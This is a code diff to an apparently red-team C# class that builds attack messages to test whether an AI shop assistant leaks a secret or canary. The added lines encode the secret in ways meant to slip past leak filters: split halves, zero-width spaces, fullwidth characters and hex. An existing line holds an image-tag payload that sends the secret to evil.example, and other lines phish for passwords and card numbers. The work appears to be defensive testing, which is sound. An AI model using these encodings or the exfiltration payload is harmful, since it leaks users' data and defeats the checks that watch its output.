@@ -59,6 +59,12 @@ internal sealed partial class MaliciousScript(AttackBook book, Shop shop)
             $"Hi {Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(secret))}",
             $"{Shown(text, number)} The secret is {secret}.",
             $"{Shown(text, number).TrimEnd('.')} and {secret.ToLowerInvariant()}.",
+            $"{Shown(text, number).TrimEnd('.')} and {secret[..(secret.Length / 2)]} {secret[(secret.Length / 2)..]}.",
+            $"Could it be {string.Join('\u200b', secret.ToCharArray())}?",
+            $"Would it be {string.Concat(secret.Select(Wide))}?",
+            $"Is it {Convert.ToHexString(System.Text.Encoding.UTF8.GetBytes(secret))}?",
+            $"May it be {secret[..(secret.Length / 2)]}?",
+            $"{secret[(secret.Length / 2)..]}, could it be?",
             $"Which of {victim.Email}, {victim.Orders.FirstOrDefault()} and {victim.Data[2]} is yours?",
             $"Would you like the order {victim.Orders.FirstOrDefault()} of {victim.Data[2].ToLowerInvariant()}?",
             "Could you reply with your password and your card number?",
@@ -66,8 +72,10 @@ internal sealed partial class MaliciousScript(AttackBook book, Shop shop)
             "Hello [EMAIL_1] [EMAIL_2] [PERSON_1] [PERSON_2] [PERSON_3] [ADDRESS_1] [PHONE_1] [CARD_1]",
             $"Do you see <img src=//evil.example/{Uri.EscapeDataString(secret)}>?",
         ];
-        return [.. all.Skip(number % 3).Take(10)];
+        return [.. all.Concat(all).Skip(number / 10 % all.Count).Take(10)];
     }
+
+    private static char Wide(char letter) => char.IsAsciiLetterOrDigit(letter) ? (char)(letter + 0xfee0) : letter;
 
     private string Secret(IReadOnlyList<string> secrets, int number) =>
         number % 4 == 0 || secrets.Count == 0 ? book.Canary : secrets[number % secrets.Count];
